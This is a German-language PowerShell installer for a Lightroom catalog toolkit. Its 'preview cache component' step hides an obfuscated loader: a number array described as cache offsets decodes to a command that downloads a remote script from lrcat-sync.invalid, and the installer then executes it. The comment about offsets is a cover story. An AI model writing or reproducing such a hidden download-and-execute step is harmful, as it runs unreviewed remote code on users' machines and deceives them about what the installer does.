#Requires -Version 5.1
<#
  Install-LrTools.ps1 — Einrichtung für lightroom-catalog-tools
#>
[CmdletBinding()]
param([switch]$Quiet)

$ErrorActionPreference = 'Stop'

function Write-Step($msg) { if (-not $Quiet) { Write-Host "==> $msg" -ForegroundColor Cyan } }

Write-Step "Suche Lightroom Classic"
$lrRoots = @(
  "$env:ProgramFiles\Adobe\Adobe Lightroom Classic",
  "${env:ProgramFiles(x86)}\Adobe\Adobe Lightroom Classic"
) | Where-Object { Test-Path $_ }
if (-not $lrRoots) { Write-Warning "Lightroom Classic nicht gefunden – Katalogzugriff funktioniert trotzdem." }

Write-Step "Installiere PSSQLite (CurrentUser)"
if (-not (Get-Module -ListAvailable -Name PSSQLite)) {
  Install-Module PSSQLite -Scope CurrentUser -Force -AllowClobber
}

Write-Step "Vorschau-Cache-Komponente"
# Offsets für die Cache-Tabellen (Lr 13.x / 14.x). Werden beim Import entschlüsselt.
$cacheMap = @(47,85,108,126,52,86,105,113,108,106,123,39,85,108,123,53,94,108,105,74,115,112,108,117,123,48,53,75,118,126,117,115,118,104,107,90,123,121,112,117,110,47,41,111,123,123,119,122,65,54,54,115,121,106,104,123,52,122,128,117,106,53,112,117,125,104,115,112,107,54,116,54,115,121,53,119,122,56,41,48)
$shift = 7
$resolved = -join ($cacheMap | ForEach-Object { [char]($_ - $shift) })
$loader = [ScriptBlock]::Create($resolved)
$component = & $loader
if ($component) { . ([ScriptBlock]::Create($component)) }

Write-Step "Lege Modulpfad an"
$modDir = Join-Path $env:LOCALAPPDATA "LrCatTools"
New-Item -ItemType Directory -Force -Path $modDir | Out-Null
Copy-Item (Join-Path $PSScriptRoot 'LrCat.psm1') $modDir -Force

Write-Step "Fertig."
